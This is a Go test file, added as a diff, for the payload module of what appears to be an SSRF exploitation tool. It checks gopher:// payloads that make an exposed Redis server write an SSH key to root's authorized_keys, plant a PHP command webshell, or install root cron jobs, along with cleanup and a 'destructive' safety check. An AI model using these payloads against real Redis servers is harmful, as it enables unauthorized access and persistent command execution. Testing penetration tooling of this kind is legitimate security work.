@@ -0,0 +1,79 @@
+package payloads
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestRedisWritePayload(t *testing.T) {
+	w := NewRedisWrite(RedisModeSSH, "127.0.0.1", 6379, "", "ssh-ed25519 AAAA user@host\n")
+	if w.Path != "/root/.ssh/authorized_keys" {
+		t.Errorf("Path = %q, want 默认路径", w.Path)
+	}
+	data := string(gopherData(t, w.Payload(), "gopher://127.0.0.1:6379/_"))
+	want := "*3\r\n$3\r\nSET\r\n$6\r\ngossrf\r\n$30\r\n\n\nssh-ed25519 AAAA user@host\n\n\r\n" +
+		"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n" +
+		"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\ndbfilename\r\n$15\r\nauthorized_keys\r\n" +
+		"*1\r\n$4\r\nSAVE\r\n*1\r\n$4\r\nQUIT\r\n"
+	if data != want {
+		t.Errorf("写入payload = %q, want %q", data, want)
+	}
+
+	cleanup := string(gopherData(t, w.CleanupPayload("/data", "dump.rdb"), "gopher://127.0.0.1:6379/_"))
+	for _, part := range []string{"$3\r\nDEL\r\n$6\r\ngossrf\r\n", "$3\r\ndir\r\n$5\r\n/data\r\n", "$8\r\ndump.rdb\r\n", "$4\r\nSAVE\r\n"} {
+		if !strings.Contains(cleanup, part) {
+			t.Errorf("清理payload %q 缺少 %q", cleanup, part)
+		}
+	}
+}
+
+func TestNewRedisWrite(t *testing.T) {
+	tests := []struct {
+		mode, path, data string
+		wantPath         string
+		wantContent      string
+	}{
+		{RedisModeWebshell, "", "<?php system($_GET[c]);?>", "/var/www/html/shell.php", "<?php system($_GET[c]);?>"},
+		{RedisModeCron, "", "bash -c 'id > /tmp/x'", "/var/spool/cron/root", "* * * * * bash -c 'id > /tmp/x'"},
+		{RedisModeCron, "/var/spool/cron/crontabs/root", "id", "/var/spool/cron/crontabs/root", "* * * * * id"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.mode+tt.path, func(t *testing.T) {
+			w := NewRedisWrite(tt.mode, "10.0.0.5", 6380, tt.path, tt.data)
+			if w.Path != tt.wantPath || w.Content != "\n\n"+tt.wantContent+"\n\n" {
+				t.Errorf("NewRedisWrite = %q %q, want %q %q", w.Path, w.Content, tt.wantPath, tt.wantContent)
+			}
+		})
+	}
+}
+
+func TestParseRedisConfig(t *testing.T) {
+	tests := []struct {
+		name      string
+		resp      string
+		dir, file string
+		ok        bool
+	}{
+		{"原始响应", "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n*2\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n+OK\r\n", "/var/lib/redis", "dump.rdb", true},
+		{"嵌入页面", "<pre>*2\n$3\ndir\n$5\n/data\n*2\n$10\ndbfilename\n$6\nx.rdb\n</pre>", "/data", "x.rdb", true},
+		{"没有回显", "<html>ok</html>", "", "", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir, file, ok := ParseRedisConfig(tt.resp)
+			if dir != tt.dir || file != tt.file || ok != tt.ok {
+				t.Errorf("ParseRedisConfig = %q, %q, %v, want %q, %q, %v", dir, file, ok, tt.dir, tt.file, tt.ok)
+			}
+		})
+	}
+}
+
+func TestRedisWriteDestructive(t *testing.T) {
+	w := NewRedisWrite(RedisModeWebshell, "127.0.0.1", 6379, "", "<?php phpinfo();?>")
+	if _, destructive := Destructive(w.Payload()); !destructive {
+		t.Error("写入payload应该被 -safe 排除")
+	}
+	if command, destructive := Destructive(RedisConfigPayload("127.0.0.1", 6379)); destructive {
+		t.Errorf("读取配置的payload是只读的，却包含 %s", command)
+	}
+}